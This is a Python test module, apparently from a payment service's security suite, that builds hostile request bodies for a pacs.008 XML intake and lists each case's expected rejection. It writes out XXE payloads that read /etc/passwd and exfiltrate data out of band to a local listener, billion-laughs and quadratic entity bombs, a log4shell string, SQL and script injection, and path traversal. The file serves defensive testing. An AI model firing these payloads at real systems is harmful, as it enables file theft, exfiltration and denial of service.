"""The hostile bodies posted to /inbox, each with the one outcome it must have.

An expectation is "ACSC" (the input is really a valid message, e.g. a harmless mutation),
"RJCT:<code>" (202, then a pacs.002 RJCT whose first StsRsnInf/Rsn/Cd is <code>) or
"<status>:<error_code>" (a JSON 4xx at once). Bodies are built when the suite runs
(`build(env)`), so each gets fresh ids and today's dates, and URL entities point at the
suite's own listener (`env.exfil_url`), which must never be called.
"""

from __future__ import annotations

import base64
import gzip
import json
import random
import uuid
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

from tests.hostile.messages import CANARY, CANARY_DEBTOR_IBAN, DROP, bah, day_offset, pacs008, wrap

MIB = 1024 * 1024
FF01 = "RJCT:FF01"


@dataclass(frozen=True)
class Env:
    exfil_url: str  # http://127.0.0.1:<port>/<token>: any request to it is a failure


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Env], bytes]
    expect: str
    content_type: str | None = "application/xml"
    headers: dict = field(default_factory=dict)
    bug: str | None = None  # a known product bug: the case is expected to fail until fixed


CASES: list[Case] = []


def case(name: str, expect: str, build, **kw) -> None:
    assert all(c.name != name for c in CASES), name
    CASES.append(Case(name, build if callable(build) else (lambda env, b=build: b), expect, **kw))


def _doc_body(msg: bytes) -> bytes:
    """The message without its XML declaration (to put a DOCTYPE or PI in front)."""
    return msg.split(b"?>", 1)[1].lstrip()


def with_prolog(prolog: bytes | Callable[[Env], bytes]) -> Callable[[Env], bytes]:
    def build(env: Env) -> bytes:
        head = prolog(env) if callable(prolog) else prolog
        return b'<?xml version="1.0" encoding="UTF-8"?>\n' + head + b"\n" + _doc_body(pacs008())

    return build


# -- XXE: file and URL entities, external DTDs, parameter entities, XInclude ---------------

XXE = {
    "xxe-file-etc-passwd": lambda e: b'<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "xxe-file-proc-environ": lambda e: b'<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///proc/self/environ">]>',
    "xxe-url-entity": lambda e: b'<!DOCTYPE Document [<!ENTITY x SYSTEM "' + e.exfil_url.encode() + b'/entity">]>',
    "xxe-public-url-entity": lambda e: (
        b'<!DOCTYPE Document [<!ENTITY x PUBLIC "-//X//Y" "' + e.exfil_url.encode() + b'/public">]>'
    ),
    "xxe-external-dtd": lambda e: b'<!DOCTYPE Document SYSTEM "' + e.exfil_url.encode() + b'/dtd">',
    "xxe-external-dtd-file": lambda e: b'<!DOCTYPE Document SYSTEM "file:///etc/hostname">',
    "xxe-parameter-entity": lambda e: (
        b'<!DOCTYPE Document [<!ENTITY % p SYSTEM "' + e.exfil_url.encode() + b'/param"> %p;]>'
    ),
    "xxe-oob-exfil": lambda e: (
        b'<!DOCTYPE Document [<!ENTITY % f SYSTEM "file:///etc/passwd">'
        b"<!ENTITY % d \"<!ENTITY &#x25; x SYSTEM '" + e.exfil_url.encode() + b"/?%f;'>\"> %d; %x;]>"
    ),
    "xxe-utf8-bom-before-doctype": lambda e: b'<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
}
for _name, _prolog in XXE.items():
    if _name == "xxe-utf8-bom-before-doctype":
        case(_name, FF01, lambda env, p=_prolog: b"\xef\xbb\xbf" + with_prolog(p)(env))
    else:
        case(_name, FF01, with_prolog(_prolog))


def _entity_in_msg_id(env: Env, decl: bytes) -> bytes:
    msg = pacs008(msg_id=b"&x;")
    return b'<?xml version="1.0" encoding="UTF-8"?>\n' + decl + b"\n" + _doc_body(msg)


case(
    "xxe-file-entity-used-in-msgid",
    FF01,
    lambda e: _entity_in_msg_id(e, b'<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
)
case(
    "xxe-url-entity-used-in-name",
    FF01,
    lambda e: (
        b'<?xml version="1.0"?>\n<!DOCTYPE Document [<!ENTITY x SYSTEM "'
        + e.exfil_url.encode()
        + b'/nm">]>\n'
        + _doc_body(pacs008(debtor_name=b"&x;"))
    ),
)
case("xxe-doctype-lowercase", FF01, with_prolog(b'<!doctype Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))
case(
    "xxe-doctype-after-root",
    FF01,
    lambda e: pacs008() + b'<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
)
case(
    "xxe-doctype-in-envelope",
    FF01,
    lambda e: b'<!DOCTYPE Envelope [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + bah(pacs008(msg_id=b"&x;")),
)
case(
    "xxe-utf16-doctype",
    FF01,
    lambda e: (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        + _doc_body(pacs008()).decode()
    ).encode("utf-16"),
)
case(
    "xxe-utf7-doctype",
    FF01,
    lambda e: (
        b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE Document +AFs-+ADw-!ENTITY x SYSTEM '
        b"+ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-" + _doc_body(pacs008())
    ),
)
case(
    "xinclude-file",
    FF01,
    lambda e: pacs008(
        debtor_name=b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    ),
)
case(
    "xinclude-url",
    FF01,
    lambda e: pacs008(
        remittance=b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="' + e.exfil_url.encode() + b'/xi"/>'
    ),
)
# harmless for a parser that fetches nothing: valid messages carrying references to elsewhere
case(
    "schemalocation-url",
    "ACSC",
    lambda e: pacs008().replace(
        b'pacs.008.001.08">',
        b'pacs.008.001.08" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        b'xsi:schemaLocation="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08 ' + e.exfil_url.encode() + b'/xsd">',
        1,
    ),
)
case(
    "stylesheet-pi-url",
    "ACSC",
    with_prolog(lambda e: b'<?xml-stylesheet type="text/xsl" href="' + e.exfil_url.encode() + b'/xsl"?>'),
)

# -- entity expansion: billion laughs, quadratic blow-up, undeclared entities ---------------

_LOL = b'<!ENTITY lol0 "lol">' + b"".join(
    b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10)
)
case(
    "billion-laughs",
    FF01,
    lambda e: b'<?xml version="1.0"?><!DOCTYPE Document [' + _LOL + b"]>" + _doc_body(pacs008(debtor_name=b"&lol9;")),
)
case(
    "billion-laughs-in-attribute",
    FF01,
    lambda e: b'<?xml version="1.0"?><!DOCTYPE Document [' + _LOL + b"]>" + _doc_body(pacs008(currency=b"&lol9;")),
)
case(
    "billion-laughs-parameter-entities",
    FF01,
    lambda e: (
        b'<?xml version="1.0"?><!DOCTYPE Document [<!ENTITY % a "x"><!ENTITY % b "%a;%a;%a;%a;%a;%a;%a;%a;">'
        b'<!ENTITY % c "%b;%b;%b;%b;%b;%b;%b;%b;">%c;]>' + _doc_body(pacs008())
    ),
)
_BIG = b"A" * 50_000
case(
    "quadratic-blowup",
    FF01,
    lambda e: (
        b'<?xml version="1.0"?><!DOCTYPE Document [<!ENTITY a "'
        + _BIG
        + b'">]>'
        + _doc_body(pacs008(remittance=b"&a;" * 15_000))
    ),
)
case(
    "quadratic-blowup-attribute",
    FF01,
    lambda e: (
        b'<?xml version="1.0"?><!DOCTYPE Document [<!ENTITY a "'
        + _BIG
        + b'">]>'
        + _doc_body(pacs008(currency=b"&a;" * 15_000))
    ),
)
case("undeclared-entity-no-dtd", FF01, lambda e: pacs008(debtor_name=b"&lol9;"))
case("undeclared-entity-in-attribute", FF01, lambda e: pacs008(currency=b"&xxe;"))
case("dtd-internal-only-harmless", FF01, with_prolog(b"<!DOCTYPE Document [<!ELEMENT Document ANY>]>"))
case("dtd-empty", FF01, with_prolog(b"<!DOCTYPE Document>"))
case(
    "dtd-public-id",
    FF01,
    with_prolog(
        b'<!DOCTYPE Document PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">'
    ),
)
case("dtd-attlist-default-attr", FF01, with_prolog(b'<!DOCTYPE Document [<!ATTLIST Document injected CDATA "x">]>'))
case(
    "dtd-notation-unparsed-entity",
    FF01,
    with_prolog(b'<!DOCTYPE Document [<!NOTATION n SYSTEM "file:///bin/sh"><!ENTITY u SYSTEM "file:///x" NDATA n>]>'),
)
case("many-char-refs", FF01, lambda e: pacs008(remittance=b"&#65;" * 200_000))  # 1 MB of refs, too long for Ustrd
case("char-refs-valid-short", "ACSC", lambda e: pacs008(remittance=b"&#72;&#x53;&#84;-" + CANARY.encode()))
case(
    "predefined-entities-in-msgid",
    "ACSC",
    lambda e: pacs008(msg_id=b"&amp;&lt;&gt;&quot;&apos;" + uuid.uuid4().hex[:8].encode()),
)

# -- size: 10 MB, just over and exactly at the limit ---------------------------------------

case("10mb-body", "413:MESSAGE_TOO_LARGE", lambda e: b"<a>" + b"x" * (10 * MIB) + b"</a>")
case("10mb-valid-message-padded", "413:MESSAGE_TOO_LARGE", lambda e: pacs008() + b" " * (10 * MIB))
case("1mib-plus-one", "413:MESSAGE_TOO_LARGE", lambda e: pacs008().ljust(MIB + 1, b" "))
case("1mib-exactly-valid-padded", "ACSC", lambda e: pacs008().ljust(MIB, b"\n"))
case(
    "1mib-exactly-comment-padded",
    "ACSC",
    lambda e: (lambda m: m + b"<!--" + b"c" * (MIB - len(m) - 7) + b"-->")(pacs008()),
)
case(
    "10mb-binary-octet-stream",
    "413:MESSAGE_TOO_LARGE",
    lambda e: random.Random(1).randbytes(10 * MIB),
    content_type="application/octet-stream",
)
case("empty-body", "400:EMPTY_BODY", b"")
case("one-byte-body", FF01, b"<")
case("whitespace-only-body", FF01, b" \r\n\t  \n")
case("nul-only-body", FF01, b"\x00")
case("huge-text-node-900k", FF01, lambda e: pacs008(remittance="R" * 900_000))
case("huge-attribute-900k", FF01, lambda e: pacs008(currency="E" * 900_000))
case(
    "100k-attributes",
    FF01,
    lambda e: pacs008().replace(
        b'pacs.008.001.08">', b'pacs.008.001.08" ' + b" ".join(b'a%d="1"' % i for i in range(90_000)) + b">", 1
    ),
)
case(
    "10k-namespace-declarations",
    "ACSC",
    lambda e: pacs008().replace(
        b'pacs.008.001.08">',
        b'pacs.008.001.08" ' + b" ".join(b'xmlns:p%d="urn:x:%d"' % (i, i) for i in range(10_000)) + b">",
        1,
    ),
)
case("100k-sibling-elements", FF01, lambda e: pacs008(remittance=b"<a/>" * 100_000))
case(
    "10k-transactions",
    FF01,
    lambda e: pacs008().replace(b"</CdtTrfTxInf>", b"</CdtTrfTxInf>" + b"<CdtTrfTxInf/>" * 10_000, 1),
)

# -- nesting depth ------------------------------------------------------------------------

case("10000-deep-nesting", FF01, b"<a>" * 10_000 + b"</a>" * 10_000)
case("10000-deep-inside-document", FF01, lambda e: pacs008(remittance=b"<a>" * 10_000 + b"</a>" * 10_000))
case("10000-deep-wrappers-around-document", FF01, lambda e: wrap(pacs008(), b"<w>" * 10_000, b"</w>" * 10_000))
case("101-deep-nesting", FF01, b"<a>" * 101 + b"</a>" * 101)
case("260-deep-nesting", FF01, b"<a>" * 260 + b"</a>" * 260)
case("deep-ns-nesting", FF01, lambda e: b"".join(b'<a xmlns="urn:x:%d">' % i for i in range(5000)) + b"</a>" * 5000)
case("document-5-wrappers-deep", FF01, lambda e: wrap(pacs008(), b"<a><b><c><d><e>", b"</e></d></c></b></a>"))
case("document-3-wrappers-deep", "ACSC", lambda e: wrap(pacs008(), b"<a><b><c>", b"</c></b></a>"))

# -- encodings: invalid UTF-8, other encodings, control characters --------------------------

INVALID_UTF8 = {
    "lone-continuation-byte": b"\x80",
    "overlong-slash": b"\xc0\xaf",
    "overlong-nul": b"\xc0\x80",
    "truncated-2-byte": b"\xc3",
    "truncated-3-byte": b"\xe2\x82",
    "truncated-4-byte": b"\xf0\x9f\x92",
    "utf16-surrogate-in-utf8": b"\xed\xa0\x80",
    "above-u10ffff": b"\xf4\x90\x80\x80",
    "five-byte-sequence": b"\xf8\x88\x80\x80\x80",
    "byte-ff": b"\xff",
    "latin1-e-acute": b"caf\xe9",
}
# Invalid UTF-8 is FF01 when the intake sees the bytes that were sent (strict decoding):
# posted as application/octet-stream, an API Gateway binary media type, the body reaches
# the intake byte for byte on AWS (proven in process: tests/unit/test_routes.py). U+FFFD
# itself is a legal character and is not refused. MiniStack's gateway decodes every body
# as text with replacement, binary types included, so here the invalid bytes arrive as a
# legal U+FFFD and the message may settle: both answers are honest, never a 5xx, and the
# canary in the name must still stay out of the logs.
BYTES = "application/octet-stream"
EXACT_OR_REPLACED = f"{FF01}|ACSC"
for _name, _raw in INVALID_UTF8.items():
    case(
        f"utf8-{_name}-in-debtor-name",
        EXACT_OR_REPLACED,
        lambda e, r=_raw: pacs008(debtor_name=CANARY.encode() + r),
        content_type=BYTES,
    )
case("utf8-invalid-in-tag-name", FF01, lambda e: pacs008(remittance=b"<R\xc0\xafx/>"), content_type=BYTES)
case("utf8-invalid-in-attribute", FF01, lambda e: pacs008(currency=b"EU\xff"), content_type=BYTES)
case("utf8-invalid-in-msgid", EXACT_OR_REPLACED, lambda e: pacs008(msg_id=b"ID\xed\xa0\x80"), content_type=BYTES)
case("utf8-bom-valid", "ACSC", lambda e: b"\xef\xbb\xbf" + pacs008())
case("utf8-double-bom", FF01, lambda e: b"\xef\xbb\xbf\xef\xbb\xbf" + pacs008())
case(
    "utf16le-with-bom", FF01, lambda e: b"\xff\xfe" + pacs008().decode().replace("UTF-8", "UTF-16").encode("utf-16-le")
)
case("utf16be-no-bom", FF01, lambda e: pacs008().decode().replace("UTF-8", "UTF-16").encode("utf-16-be"))
case("utf32", FF01, lambda e: pacs008().decode().replace("UTF-8", "UTF-32").encode("utf-32"))
case(
    "latin1-declared-latin1-bytes",
    FF01,
    lambda e: pacs008(debtor_name=b"M\xfcller " + CANARY.encode()).replace(b"UTF-8", b"ISO-8859-1", 1),
)
# A declared encoding other than UTF-8 is refused: a reader honouring it would see other
# characters than the ones validated.
case("ebcdic-declared", FF01, lambda e: pacs008().replace(b"UTF-8", b"EBCDIC-US", 1))
case("unknown-encoding-declared", FF01, lambda e: pacs008().replace(b"UTF-8", b"X-NOPE-42", 1))
case("ascii-declared-pure-ascii", "ACSC|RJCT:FF01", lambda e: pacs008().replace(b"UTF-8", b"US-ASCII", 1))
case("nul-byte-in-text", FF01, lambda e: pacs008(remittance=b"A\x00B"))
case("nul-char-ref", FF01, lambda e: pacs008(remittance=b"A&#0;B"))
case("control-char-raw", FF01, lambda e: pacs008(debtor_name=b"A\x01B"))
case("control-char-ref", FF01, lambda e: pacs008(debtor_name=b"A&#x1B;[31mB"))
case("noncharacter-fffe-raw", FF01, lambda e: pacs008(debtor_name=b"A\xef\xbf\xbeB"))
case("noncharacter-fffe-ref", FF01, lambda e: pacs008(debtor_name=b"A&#xFFFE;B"))
case("char-ref-above-10ffff", FF01, lambda e: pacs008(debtor_name=b"A&#x110000;B"))
case("char-ref-surrogate", FF01, lambda e: pacs008(debtor_name=b"A&#xD800;B"))
case(
    "xml11-declared-control-char-ref",
    FF01,
    lambda e: pacs008(debtor_name=b"A&#x1;B").replace(b'version="1.0"', b'version="1.1"', 1),
)

# -- namespaces ---------------------------------------------------------------------------


def _ns(new: bytes) -> Callable[[Env], bytes]:
    return lambda e: pacs008().replace(b'xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08"', new, 1)


case("ns-missing", FF01, _ns(b""))
case("ns-empty", FF01, _ns(b'xmlns=""'))
case("ns-unsupported-version-02", FF01, _ns(b'xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.02"'))
case("ns-unsupported-version-99", FF01, _ns(b'xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.99"'))
case("ns-other-message-pacs009", FF01, _ns(b'xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.009.001.08"'))
case("ns-camt056", FF01, _ns(b'xmlns="urn:iso:std:iso:20022:tech:xsd:camt.056.001.09"'))
case("ns-head-as-document", FF01, _ns(b'xmlns="urn:iso:std:iso:20022:tech:xsd:head.001.001.02"'))
case("ns-uppercase-urn", FF01, _ns(b'xmlns="URN:ISO:STD:ISO:20022:TECH:XSD:PACS.008.001.08"'))
case("ns-trailing-space", FF01, _ns(b'xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08 "'))
case(
    "ns-prefix-only-root",
    FF01,
    lambda e: (
        pacs008()
        .replace(
            b'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08">',
            b'<d:Document xmlns:d="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08">',
            1,
        )
        .replace(b"</Document>", b"</d:Document>")
    ),
)
case(
    "ns-prefixed-everywhere",
    "ACSC",
    lambda e: (
        __import__("re")
        .sub(rb"<(/?)([A-Za-z]+)([ >])", rb"<\1p:\2\3", pacs008())
        .replace(b"<p:Document xmlns=", b"<p:Document xmlns:p=", 1)
    ),
)
case("ns-undeclared-prefix", FF01, lambda e: pacs008(remittance=b"<q:R>x</q:R>"))
case("ns-xmlns-prefix-rebinding", FF01, lambda e: pacs008(remittance=b'<R xmlns:xml="urn:evil">x</R>'))
case("ns-foreign-element-inside", FF01, lambda e: pacs008(remittance=b'<Ustrd xmlns="urn:evil">x</Ustrd>'))
case("ns-two-documents-in-envelope", FF01, lambda e: b"<Env>" + _doc_body(pacs008()) + _doc_body(pacs008()) + b"</Env>")
case(
    "ns-two-versions-in-envelope",
    FF01,
    lambda e: (
        b"<Env>"
        + _doc_body(pacs008())
        + _doc_body(_ns(b'xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.09"')(e))
        + b"</Env>"
    ),
)
case("ns-apphdr-only", FF01, lambda e: bah(pacs008()).split(b"<Document")[0] + b"</Envelope>")
case(
    "ns-soap-envelope",
    "ACSC",
    lambda e: wrap(
        pacs008(),
        b'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>',
        b"</soap:Body></soap:Envelope>",
    ),
)
case(
    "ns-fake-iso-namespace-wrapper",
    FF01,
    lambda e: wrap(pacs008(), b'<W xmlns="urn:iso:std:iso:20022:tech:xsd:evil">', b"</W>"),
)
case(
    "ns-message-element-outside-document",
    "ACSC",
    lambda e: (
        b"<Wrapper>"
        + _doc_body(pacs008())
        .split(b">", 1)[1]
        .rsplit(b"</Document>", 1)[0]
        .replace(
            b"<FIToFICstmrCdtTrf>", b'<FIToFICstmrCdtTrf xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08">', 1
        )
        + b"</Wrapper>"
    ),
)

# -- non-XML bodies -----------------------------------------------------------------------

_R = random.Random(20)
NON_XML = {
    "json": json.dumps({"MsgId": "X", "Dbtr": {"Nm": f"{CANARY}-DEBTOR"}}).encode(),
    "json-string-of-xml": lambda e: json.dumps(pacs008().decode()).encode(),
    "form-urlencoded": b"MsgId=X&Amt=1234.56&Nm=" + CANARY.encode(),
    "plain-text": b"hello, this is not a payment",
    "csv": b"MsgId,Amt,Ccy\nX,1234.56,EUR\n",
    "yaml": b"MsgId: X\nAmt: 1234.56\n",
    "html": b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
    "html-no-doctype": b"<html><body><script>alert(1)</script></body></html>",
    "mt103": (
        b"{1:F01DEUTDEFFAXXX0000000000}{2:I103BNPAFRPPXXXXN}{4:\r\n:20:REF\r\n:32A:260415EUR1234,56\r\n"
        b":50K:/" + CANARY_DEBTOR_IBAN.encode() + b"\r\n-}"
    ),
    "base64-of-message": lambda e: base64.b64encode(pacs008()),
    "gzip-of-message": lambda e: gzip.compress(pacs008()),
    "zlib-of-message": lambda e: zlib.compress(pacs008()),
    "zip-header": b"PK\x03\x04" + _R.randbytes(200),
    "pdf-header": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj",
    "png-header": b"\x89PNG\r\n\x1a\n" + _R.randbytes(100),
    "der-asn1": b"\x30\x82\x01\x0a\x02\x82\x01\x01\x00" + _R.randbytes(64),
    "random-bytes-4k": _R.randbytes(4096),
    "jwt-like": b"eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.",
    "sql-injection": b"'; DROP TABLE pacsflow-local-events; --",
    "log4shell": b"${jndi:ldap://127.0.0.1:1/a}",
    "xml-declaration-only": b'<?xml version="1.0" encoding="UTF-8"?>',
    "comment-only": b"<!-- nothing -->",
    "pi-only": b"<?pi data?>",
    "cdata-only": b"<![CDATA[<Document/>]]>",
    "two-roots": lambda e: pacs008() + _doc_body(pacs008()),
    "text-after-root": lambda e: pacs008() + b"trailing",
    "truncated-message": lambda e: pacs008()[:-40],
    "message-truncated-in-tag": lambda e: pacs008().split(b"<Cdtr>")[0] + b"<Cd",
    "unclosed-cdata": lambda e: pacs008(remittance=b"<![CDATA[abc"),
    "cdata-end-in-text": lambda e: pacs008(remittance=b"abc]]>def"),
    "mismatched-tags": lambda e: pacs008(remittance=b"<a></b>"),
    "duplicate-attribute": lambda e: pacs008().replace(b'Ccy="EUR"', b'Ccy="EUR" Ccy="USD"', 1),
    "attribute-without-quotes": lambda e: pacs008().replace(b'Ccy="EUR"', b"Ccy=EUR", 1),
    "lt-in-attribute": lambda e: pacs008(currency=b"E<R"),
    "empty-root": b"<Document/>",
    "iso-ns-empty-document": b'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08"/>',
    "crlf-line-endings-valid": None,  # ACSC, below
}
for _name, _body in NON_XML.items():
    if _body is not None:
        case(f"nonxml-{_name}", FF01, _body)
case("nonxml-crlf-line-endings-valid", "ACSC", lambda e: pacs008().replace(b"\n", b"\r\n"))
case("nonxml-cr-only-line-endings-valid", "ACSC", lambda e: pacs008().replace(b"\n", b"\r"))

# -- every extracted field with oversized and odd values -----------------------------------

FIELD_CASES: list[tuple[str, str, object, str]] = [
    # (case name, field, value, expectation)
    ("msgid-empty", "msg_id", "", FF01),
    ("msgid-36-chars", "msg_id", "M" * 36, FF01),
    ("msgid-10k", "msg_id", "M" * 10_000, FF01),
    ("msgid-500k", "msg_id", "M" * 500_000, FF01),
    ("msgid-missing", "msg_id", DROP, FF01),
    ("msgid-spaces-only", "msg_id", " " * 5, "ACSC"),
    ("msgid-crlf-injection", "msg_id", b"A&#13;&#10;X-Injected: 1&#13;&#10;", "ACSC"),
    ("msgid-raw-crlf", "msg_id", b"A\r\nX-Injected: 1", "ACSC"),
    ("msgid-log4shell", "msg_id", "${jndi:ldap://127.0.0.1:1/a}", "ACSC"),
    ("msgid-sql", "msg_id", "'; DROP TABLE events;--", "ACSC"),
    ("msgid-script", "msg_id", "<script>alert(1)</script>", "ACSC"),
    ("msgid-path-traversal", "msg_id", "../../../../etc/passwd", "ACSC"),
    ("msgid-rtl-override", "msg_id", "\u202eDI-GSM", "ACSC"),
    ("msgid-zero-width", "msg_id", "A\u200bB\u200cC\ufeffD", "ACSC"),
    ("msgid-35-emoji", "msg_id", "\U0001f4b8" * 35, "ACSC"),
    ("msgid-36-emoji", "msg_id", "\U0001f4b8" * 36, FF01),
    ("msgid-cdata", "msg_id", b"<![CDATA[<x>&y;]]>", "ACSC"),
    ("msgid-comment-split", "msg_id", b"AB<!-- c -->CD", "ACSC"),
    ("msgid-pi-split", "msg_id", b"AB<?pi x?>CD", "ACSC"),
    ("msgid-child-element", "msg_id", b"<b>x</b>", FF01),
    ("msgid-format-string", "msg_id", "%s%s%s%n%x{0}{}", "ACSC"),
    ("endtoendid-36-chars", "end_to_end_id", "E" * 36, FF01),
    ("endtoendid-empty", "end_to_end_id", "", FF01),
    ("endtoendid-missing", "end_to_end_id", DROP, FF01),
    ("endtoendid-100k", "end_to_end_id", "E" * 100_000, FF01),
    ("endtoendid-notprovided", "end_to_end_id", "NOTPROVIDED", "ACSC"),
    ("endtoendid-nul-ref", "end_to_end_id", b"E&#0;", FF01),
    ("txid-36-chars", "tx_id", "T" * 36, FF01),
    ("txid-empty", "tx_id", "", FF01),
    ("txid-missing", "tx_id", DROP, "ACSC"),
    ("txid-newline-only", "tx_id", "\n", "ACSC"),
    ("instrid-36-chars", "instr_id", "I" * 36, FF01),
    ("instrid-1mb", "instr_id", "I" * 1_000_000, FF01),
    ("uetr-uppercase", "uetr", lambda: str(uuid.uuid4()).upper(), FF01),
    ("uetr-v1", "uetr", lambda: str(uuid.uuid1()), FF01),
    ("uetr-nil", "uetr", "00000000-0000-0000-0000-000000000000", FF01),
    ("uetr-no-dashes", "uetr", lambda: uuid.uuid4().hex, FF01),
    ("uetr-braces", "uetr", lambda: "{%s}" % uuid.uuid4(), FF01),
    ("uetr-100-chars", "uetr", "a" * 100, FF01),
    ("uetr-empty", "uetr", "", FF01),
    ("uetr-padded", "uetr", lambda: f" {uuid.uuid4()} ", FF01),
    (
        "uetr-fullwidth-digits",
        "uetr",
        lambda: str(uuid.uuid4()).translate(str.maketrans("0123456789", "０１２３４５６７８９")),
        FF01,
    ),
    ("uetr-missing", "uetr", DROP, "ACSC"),
    ("amount-100-digits", "amount", "9" * 100, FF01),
    ("amount-100-digits-decimals", "amount", "1" * 50 + "." + "1" * 50, FF01),
    ("amount-10k-digits", "amount", "1" * 10_000, FF01),
    ("amount-negative", "amount", "-1.00", FF01),
    ("amount-zero", "amount", "0", "RJCT:AM01"),
    ("amount-zero-decimals", "amount", "0.00000", "RJCT:AM01"),
    ("amount-exponent", "amount", "1E5", FF01),
    ("amount-nan", "amount", "NaN", FF01),
    ("amount-infinity", "amount", "INF", FF01),
    ("amount-comma-thousands", "amount", "1,234.56", FF01),
    ("amount-decimal-comma", "amount", "1234,56", FF01),
    ("amount-hex", "amount", "0x10", FF01),
    ("amount-arabic-indic-digits", "amount", "\u0661\u0662\u0663", FF01),
    ("amount-empty", "amount", "", FF01),
    ("amount-dot-only", "amount", ".", FF01),
    ("amount-6-decimals", "amount", "1.123456", FF01),
    ("amount-5-decimals", "amount", "1.12345", "RJCT:CH20"),
    ("amount-18-digits", "amount", "999999999999999999", "RJCT:AM02"),
    ("amount-19-digits", "amount", "9999999999999999999", FF01),
    ("amount-above-max", "amount", "1000000000000", "RJCT:AM02"),
    ("amount-plus-sign", "amount", "+12.34", "ACSC"),
    ("amount-leading-zeros", "amount", "0000012.34", "ACSC"),
    ("amount-padded", "amount", "  12.34\n", "ACSC"),
    ("amount-missing", "amount", DROP, FF01),
    ("currency-2-letters", "currency", "EU", FF01),
    ("currency-4-letters", "currency", "EURO", FF01),
    ("currency-lowercase", "currency", "eur", FF01),
    ("currency-empty", "currency", "", FF01),
    ("currency-100-chars", "currency", "E" * 100, FF01),
    ("currency-unicode", "currency", "\u20acUR", FF01),
    ("currency-xxx", "currency", "XXX", "RJCT:AM03"),
    ("currency-gold", "currency", "XAU", "RJCT:AM03"),
    ("currency-unknown", "currency", "ZZZ", "RJCT:AM11"),
    ("currency-jpy-decimals", "currency", "JPY", "RJCT:CH20"),
    ("currency-quote-breakout", "currency", b'EUR" Evil="1', FF01),
    ("settlement-date-feb-30", "settlement_date", "2026-02-30", FF01),
    ("settlement-date-year-9999", "settlement_date", "9999-12-31", "RJCT:DT01"),
    ("settlement-date-year-0000", "settlement_date", "0000-01-01", FF01),
    ("settlement-date-year-10000", "settlement_date", "10000-01-01", "RJCT:DT01"),
    ("settlement-date-negative-year", "settlement_date", "-2026-04-15", "RJCT:DT01"),
    ("settlement-date-with-time", "settlement_date", "2026-04-15T10:00:00", FF01),
    ("settlement-date-with-zone", "settlement_date", lambda: day_offset(0) + "Z", "ACSC"),
    ("settlement-date-with-offset-14", "settlement_date", lambda: day_offset(0) + "+14:00", "ACSC"),
    ("settlement-date-unpadded", "settlement_date", "2026-4-5", FF01),
    ("settlement-date-100-chars", "settlement_date", "2" * 100, FF01),
    ("settlement-date-empty", "settlement_date", "", FF01),
    ("settlement-date-6-days-ago", "settlement_date", lambda: day_offset(-6), "RJCT:DT01"),
    ("settlement-date-31-days-ahead", "settlement_date", lambda: day_offset(31), "RJCT:DT01"),
    ("settlement-date-yesterday", "settlement_date", lambda: day_offset(-1), "ACSC"),
    ("settlement-date-missing", "settlement_date", DROP, "ACSC"),
    ("creation-month-13", "cre_dt_tm", "2026-13-01T00:00:00", FF01),
    ("creation-hour-25", "cre_dt_tm", "2026-04-15T25:00:00", FF01),
    ("creation-hour-24", "cre_dt_tm", "2026-04-15T24:00:00", "ACSC"),
    ("creation-year-10000", "cre_dt_tm", "10000-01-01T00:00:00Z", "ACSC"),
    ("creation-many-fraction-digits", "cre_dt_tm", "2026-04-15T10:00:00." + "9" * 100 + "Z", "ACSC"),
    ("creation-not-a-date", "cre_dt_tm", "yesterday", FF01),
    ("creation-date-only", "cre_dt_tm", "2026-04-15", FF01),
    ("creation-empty", "cre_dt_tm", "", FF01),
    ("creation-offset-out-of-range", "cre_dt_tm", "2026-04-15T10:00:00+15:00", FF01),
    ("nboftxs-zero", "nb_of_txs", "0", "RJCT:AM19"),
    ("nboftxs-two", "nb_of_txs", "2", "RJCT:AM19"),
    ("nboftxs-15-digits", "nb_of_txs", "9" * 15, "RJCT:AM19"),
    ("nboftxs-16-digits", "nb_of_txs", "9" * 16, FF01),
    ("nboftxs-100-digits", "nb_of_txs", "9" * 100, FF01),
    ("nboftxs-negative", "nb_of_txs", "-1", FF01),
    ("nboftxs-exponent", "nb_of_txs", "1e0", FF01),
    ("nboftxs-leading-zero", "nb_of_txs", "01", "ACSC"),
    ("nboftxs-padded", "nb_of_txs", " 1", FF01),
    ("nboftxs-arabic-indic", "nb_of_txs", "\u0661", FF01),
    ("nboftxs-empty", "nb_of_txs", "", FF01),
    ("sttlmmtd-unknown", "sttlm_mtd", "XXXX", FF01),
